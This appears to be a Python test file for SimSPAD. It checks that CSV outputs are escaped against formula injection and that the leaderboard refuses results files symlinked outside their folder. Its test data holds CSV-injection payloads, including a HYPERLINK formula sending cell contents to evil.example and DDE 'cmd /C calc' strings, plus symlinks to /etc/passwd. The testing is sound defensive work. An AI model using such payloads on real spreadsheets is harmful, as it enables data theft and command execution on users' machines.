"""Smaller promises of docs/trust.md: no CSV SimSPAD writes runs a formula in a spreadsheet, and no results.csv
(or results.json) is read through a symbolic link out of its results directory."""

from __future__ import annotations

import csv
import shutil
from pathlib import Path

import pytest

from simspad.io.csv_cells import FORMULA_PREFIXES, csv_safe, csv_unescape
from simspad.io.results_dir import read_csv
from tests.helpers.evaluation_data import write_submission

HOSTILE_LABELS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0",
                  "-2+3", "\t=1+1", "'=1+1"]


def _cells(path: Path) -> list[str]:
    with open(path, newline="", encoding="utf-8") as f:
        return [cell for row in csv.reader(f) for cell in row]


def _assert_no_formula(path: Path) -> None:
    for cell in _cells(path):
        try:
            float(cell)
            continue  # a number, negative ones included, is not a formula
        except ValueError:
            pass
        assert cell[:1] not in FORMULA_PREFIXES, f"{path.name}: formula cell {cell!r}"


@pytest.mark.parametrize("text", HOSTILE_LABELS + ["ni", "NI (S)", "'quoted", "", "-", "''+x"])
def test_escape_round_trips_any_text(text):
    assert csv_unescape(csv_safe(text)) == text
    assert csv_safe(text)[:1] not in FORMULA_PREFIXES
    assert csv_safe(-2.0) == -2.0 and csv_safe(3) == 3


@pytest.mark.parametrize("label", HOSTILE_LABELS[:3])
def test_score_and_leaderboard_csvs_carry_no_formula(simspad_cli, evaluation_dataset, tmp_path, label):
    """score's results.csv, leaderboard.csv and leaderboard_regime.csv, from a submission whose label, method
    and sensors are formulas; the label reads back as written."""
    sub = write_submission(tmp_path / "sub.h5", evaluation_dataset, method="-evil",
                           attrs={"label": label})
    out = tmp_path / "res"
    proc = simspad_cli.run("score", sub, "--dataset", evaluation_dataset, "--out", out)
    assert proc.returncode == 0, proc.stderr[-2000:]
    for name in ("results.csv", "frames.csv"):
        _assert_no_formula(out / name)
    assert {r["label"] for r in read_csv(out / "results.csv")} == {label}  # the escape is undone on reading
    assert {r["method"] for r in read_csv(out / "results.csv")} == {"-evil"}
    board = tmp_path / "board"
    proc = simspad_cli.run("leaderboard", out, "--out", board)
    assert proc.returncode == 0, proc.stderr[-2000:]
    for name in ("leaderboard.csv", "leaderboard_regime.csv"):
        _assert_no_formula(board / name)
    assert any(label in cell for cell in _cells(board / "leaderboard_regime.csv"))  # escaped, not dropped


def test_leaderboard_does_not_follow_a_results_csv_linked_out_of_its_folder(simspad_cli, evaluation_dataset,
                                                                            tmp_path):
    sub = write_submission(tmp_path / "sub.h5", evaluation_dataset)
    res = tmp_path / "res"
    assert simspad_cli.run("score", sub, "--dataset", evaluation_dataset, "--out", res).returncode == 0
    outside = tmp_path / "secret.csv"
    shutil.copy(res / "results.csv", outside)  # a valid CSV: refused for where it is, not for what it holds
    (res / "results.csv").unlink()
    (res / "results.csv").symlink_to(outside)
    for target in (outside, Path("/etc/passwd")):
        (res / "results.csv").unlink()
        (res / "results.csv").symlink_to(target)
        proc = simspad_cli.run("leaderboard", res, "--out", tmp_path / "board")
        assert proc.returncode == 2, proc.stderr[-2000:]
        line = proc.stderr.strip()
        assert line.count("\n") == 0 and "results.csv" in line and "outside" in line and "internal" not in line
        assert not (tmp_path / "board" / "leaderboard.html").exists()
    # a link that stays inside the results directory is fine
    (res / "results.csv").unlink()
    shutil.copy(outside, res / "real.csv")
    (res / "results.csv").symlink_to("real.csv")
    assert simspad_cli.run("leaderboard", res, "--out", tmp_path / "board").returncode == 0


def test_leaderboard_does_not_follow_results_json_linked_out(simspad_cli, evaluation_dataset, tmp_path):
    sub = write_submission(tmp_path / "sub.h5", evaluation_dataset)
    res = tmp_path / "res"
    assert simspad_cli.run("score", sub, "--dataset", evaluation_dataset, "--out", res).returncode == 0
    (res / "results.json").unlink()
    (res / "results.json").symlink_to("/etc/hostname" if Path("/etc/hostname").exists() else "/etc/passwd")
    proc = simspad_cli.run("leaderboard", res, "--out", tmp_path / "board")
    assert proc.returncode == 2 and "results.json" in proc.stderr and "outside" in proc.stderr, proc.stderr
